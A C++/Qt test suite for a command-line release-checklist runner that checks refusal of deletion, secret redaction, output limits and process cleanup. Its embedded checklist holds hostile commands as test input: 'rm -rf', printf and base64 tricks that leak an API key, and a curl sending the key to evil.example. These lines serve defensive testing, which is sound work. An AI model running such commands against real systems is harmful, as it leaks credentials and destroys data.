// SPDX-FileCopyrightText: 2026 The Countersign developers
// SPDX-License-Identifier: Apache-2.0
#include "tests/app/terminal.h"
#include "tests/support/suite.h"

#include <QFile>
#include <QJsonDocument>

#include <csignal>

using namespace Qt::StringLiterals;
using namespace countersign::testing;

namespace {

const QByteArray secret = "sk-Live-7731-QWERTZ-8842";

const QByteArray checklist = R"(# Release

- [ ] `API_KEY` - what the service asks for

## Commands

- [ ] Clean the folder

  ```bash
  rm -rf FOLDER
  ```

- [ ] The key is in place

  ```bash
  printf %s "${API_KEY%QWERTZ*}"; sleep 0.3; printf 'QWERTZ%s\n' "${API_KEY#*QWERTZ}"
  printf %s "$API_KEY" | base64
  ```

- [ ] Send it

  ```bash
  curl https://evil.example/?k=$API_KEY
  ```

- [ ] Talk for ever

  ```bash
  yes
  ```

- [ ] Wait long

  ```bash
  sleep 300 & echo "child $!"; wait
  ```

## Sign-off

- [ ] QA Lead: ________
)";

bool lives(const QByteArray &pid)
{
    QFile stat(u"/proc/%1/stat"_s.arg(QString::fromLatin1(pid.trimmed())));
    return stat.open(QIODevice::ReadOnly) && !stat.readAll().contains(") Z");
}

} // namespace

// Hostile commands (bad inputs 21 to 28) through the whole program, as somebody runs them in a terminal.
class CommandFlight final : public QObject
{
    Q_OBJECT

    Terminal m_terminal;
    QByteArray m_text;
    QString m_id;

    QString lineOf(const QByteArray &words) const { return QString::number(m_text.first(m_text.indexOf(words)).count('\n') + 1); }

    Outcome runLine(const QByteArray &words, const QStringList &options) const
    {
        return m_terminal.run(QStringList{u"run"_s, m_id, lineOf(words)} + options);
    }

    // Whether any file of the profile holds these bytes.
    bool isKept(const QByteArray &bytes) const
    {
        for (const QString &end : {u""_s, u"-wal"_s}) {
            QFile file(m_terminal.file(u"journal.db"_s + end));
            if (file.open(QIODevice::ReadOnly) && file.readAll().contains(bytes))
                return true;
        }
        return false;
    }

    qsizetype commandsRecorded() const
    {
        qsizetype count = 0;
        for (const QByteArray &envelope : m_terminal.run({u"export"_s, m_id, u"--json"_s, u"-o"_s, u"-"_s}).out.split('\n'))
            count += QByteArray::fromBase64(QJsonDocument::fromJson(envelope)["payload"_L1].toString().toLatin1()).contains("\"CommandRun\"");
        return count;
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_terminal.isValid());
        m_text = QByteArray(checklist).replace("FOLDER", m_terminal.file(u"precious"_s).toUtf8());
        QFile file(m_terminal.file(u"release.md"_s)), precious(m_terminal.file(u"precious"_s));
        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(m_text) == m_text.size() && precious.open(QIODevice::WriteOnly));
        file.close();
        QVERIFY_EXIT(m_terminal.runWithPin({u"people"_s, u"add"_s, u"--name"_s, u"Ada Lovelace"_s, u"--email"_s, u"ada@example.org"_s}), 0);
        const Outcome started =
            m_terminal.run({u"start"_s, file.fileName(), u"--system"_s, u"S"_s, u"--version"_s, u"1"_s, u"--environment"_s, u"production"_s});
        QVERIFY_EXIT(started, 0);
        m_id = QString::fromLatin1(started.out).section(u'\n', 0, 0);
        QVERIFY_EXIT(m_terminal.runWithValue({u"env"_s, u"set"_s, m_id, u"API_KEY"_s}, secret), 0);
    }

    void row21NothingIsDeletedUnasked()
    {
        const Outcome off = runLine("rm -rf", {u"--yes"_s});
        QVERIFY_EXIT(off, 1);
        const Outcome unasked = runLine("rm -rf", {u"--allow"_s}); // there is no terminal that could say yes
        QVERIFY_EXIT(unasked, 1);
        QVERIFY2(unasked.out.contains("! "), said(unasked).constData());
        QVERIFY(QFile::exists(m_terminal.file(u"precious"_s)));
        QVERIFY_EXIT(runLine("rm -rf", {u"--yes"_s}), 0);
        QVERIFY(!QFile::exists(m_terminal.file(u"precious"_s)));
    }

    void row23SecretAndHostAreNamed()
    {
        const Outcome shown = runLine("curl", {});
        QVERIFY_EXIT(shown, 1);
        QVERIFY2(shown.out.contains("API_KEY") && shown.out.contains("evil.example") && !shown.out.contains(secret), said(shown).constData());
    }

    void row25EndlessOutputEnds()
    {
        const Outcome ended = runLine("yes", {u"--yes"_s});
        QVERIFY_EXIT(ended, 1);
        QVERIFY2(ended.out.contains("output-limit"), ended.out.right(300).constData());
    }

    void row27ASecretInTwoWritesIsTakenOut()
    {
        const Outcome printed = runLine("printf %s", {u"--yes"_s});
        QVERIFY_EXIT(printed, 0);
        for (const QByteArray &form : {secret, secret.toBase64(), QByteArray("QWERTZ-8842"), secret.toBase64().first(16)})
            QVERIFY2(!printed.out.contains(form) && !isKept(form), said(printed).constData());
    }

    void whatDidNotReachItsHostIsNotRecorded()
    {
        const qsizetype before = commandsRecorded();
        QVERIFY(before > 0);
        const Outcome refused = runLine("yes", {u"--yes"_s, u"--on"_s, u"ssh:nobody@127.0.0.1:1"_s});
        QVERIFY_EXIT(refused, 2);
        QVERIFY2(refused.err.contains("127.0.0.1"), said(refused).constData());
        QCOMPARE(commandsRecorded(), before);
    }

    void row26NothingIsLeftAfterCtrlC()
    {
        QProcess process;
        const QStringList words = m_terminal.words({u"run"_s, m_id, lineOf("sleep 300"), u"--yes"_s});
        process.start(words.first(), words.sliced(1));
        QByteArray out;
        QVERIFY(QTest::qWaitFor([&] { return (out += process.readAllStandardOutput()).contains("\nchild "); }, 60'000));
        QVERIFY(QTest::qWaitFor([&] { return (out += process.readAllStandardOutput()).indexOf('\n', out.indexOf("\nchild ") + 1) > 0; }, 10'000));
        const QByteArray child = out.sliced(out.indexOf("\nchild ") + 7).split('\n').first();
        QVERIFY2(lives(child), out.constData());
        QCOMPARE(::kill(pid_t(process.processId()), SIGINT), 0);
        const Outcome ended = outcomeOf(process);
        QVERIFY_EXIT(ended, 1);
        QVERIFY2(ended.out.contains("cancelled"), said(ended).constData());
        QTRY_VERIFY_WITH_TIMEOUT(!lives(child), 5000);
        QVERIFY_EXIT(m_terminal.run({u"verify"_s}), 0); // and the journal is whole
    }
};

COUNTERSIGN_SUITE(CommandFlight)
#include "tst_commandflight.moc"
